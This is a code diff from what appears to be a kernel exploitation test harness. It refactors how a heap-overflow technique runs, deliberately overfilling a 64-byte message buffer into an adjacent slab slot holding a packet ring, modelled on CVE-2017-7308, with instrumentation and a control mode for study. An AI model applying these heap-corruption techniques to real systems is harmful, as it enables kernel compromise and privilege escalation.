@@ -25,12 +25,8 @@ struct ctx {
 	struct packet_ring *ring;
 	struct th_ring_snapshot before;
 	int pending;
+	struct msg_buf *msg;	/* heap-neighbour: the slab neighbour written from */
 };
-
-static const char *variant_name(void)
-{
-	return TH_ATK_VARIANT;
-}
 
 /* ---- the attacker's view of the ring --------------------------------------------- */
 
@@ -177,7 +173,7 @@ struct atk_msg_hdr {
 };
 #define TH_MSG_LEN	64u
 
-static void do_heap_neighbour(struct ctx *c, struct msg_buf *msg)
+static void do_heap_neighbour(struct ctx *c)
 {
 	/* The ring starts one slot (TH_KMALLOC_SIZE, from slabinfo) after
 	 * the msg; its data starts after the header. */
@@ -185,7 +181,7 @@ static void do_heap_neighbour(struct ctx *c, struct msg_buf *msg)
 	unsigned char buf[TH_KMALLOC_SIZE + sizeof(struct atk_ring)];
 
 	if (c->plan.goal.control) {
-		msg_store(msg, "hello", 6);
+		msg_store(c->msg, "hello", 6);
 		th_emit("TH-NOTE: msg_store(msg, \"hello\", 6): within its %u bytes", TH_MSG_LEN);
 		return;
 	}
@@ -193,7 +189,7 @@ static void do_heap_neighbour(struct ctx *c, struct msg_buf *msg)
 	memcpy(buf + gap, &c->plan.img, c->plan.reach);
 	th_emit("TH-NOTE: msg_store(msg, buf, %zu): msg has %u bytes; the copy runs through the rest of its slot into the next slot's ring",
 		gap + c->plan.reach, TH_MSG_LEN);
-	msg_store(msg, buf, gap + c->plan.reach);
+	msg_store(c->msg, buf, gap + c->plan.reach);
 }
 
 /* ---- the common frame -------------------------------------------------------------- */
@@ -261,10 +257,10 @@ static void landed(struct ctx *c)
 	th_report_landed(c->ring, &c->before, &c->plan.goal);
 }
 
-static int run_intra(struct ctx *c)
+/* The write techniques' frame, once the ring exists: arm it now (pending) or
+ * after the write (before-arm), write through the technique's bug, check. */
+static int overwrite_and_trigger(struct ctx *c)
 {
-	if (create_ring(c))
-		return 1;
 	if (c->pending)
 		arm(c, "it is pending while the attacker writes");
 	build(c);
@@ -275,6 +271,9 @@ static int run_intra(struct ctx *c)
 		break;
 	case TH_TECH_INDEX_INTRA:
 		do_index_intra(c);
+		break;
+	case TH_TECH_HEAP_NEIGHBOUR:
+		do_heap_neighbour(c);
 		break;
 	default:
 		do_strcpy_intra(c);
@@ -287,28 +286,26 @@ static int run_intra(struct ctx *c)
 	return 0;
 }
 
+static int run_intra(struct ctx *c)
+{
+	if (create_ring(c))
+		return 1;
+	return overwrite_and_trigger(c);
+}
+
 static int run_heap_neighbour(struct ctx *c)
 {
-	struct msg_buf *msg = msg_alloc(TH_MSG_LEN, 1);
 	int ms, rs;
 
-	if (!msg || create_ring(c))
+	c->msg = msg_alloc(TH_MSG_LEN, 1);
+	if (!c->msg || create_ring(c))
 		return 1;
-	ms = th_slab_slot(msg);
+	ms = th_slab_slot(c->msg);
 	rs = th_slab_slot(c->ring);
 	th_emit("TH-NOTE: slab: msg_buf in slot %d, ring in slot %d (%s), stride %zu%s", ms, rs,
 		rs == ms + 1 ? "adjacent" : "NOT adjacent", th_slab_stride(),
 		th_slab_kasan() ? " (KASAN redzones)" : "");
-	if (c->pending)
-		arm(c, "it is pending while the attacker writes");
-	build(c);
-	th_ring_snapshot(c->ring, &c->before);
-	do_heap_neighbour(c, msg);
-	landed(c);
-	if (!c->pending)
-		arm(c, "after the overwrite, as in CVE-2017-7308");
-	trigger(c);
-	return 0;
+	return overwrite_and_trigger(c);
 }
 
 static int run_uaf_realloc(struct ctx *c)
@@ -356,7 +353,7 @@ int th_attack_run(const struct th_attack *a)
 	c.a = a;
 	c.pending = a->timing == TH_TIMING_PENDING;
 	th_emit("TH-NOTE: attempting %s on %s (config %s, seed %s): %s, %s, payload %s", a->id,
-		variant_name(), TH_ATK_CONFIG, TH_ATK_SEED, th_technique_name(a->technique),
+		TH_ATK_VARIANT, TH_ATK_CONFIG, TH_ATK_SEED, th_technique_name(a->technique),
 		th_timing_name(a->timing), th_payload_name(a->payload));
 	th_emit("TH-NOTE: technique: %s", th_technique_what(a->technique));
 	if (th_payload_prepare(&c.plan, a->payload))
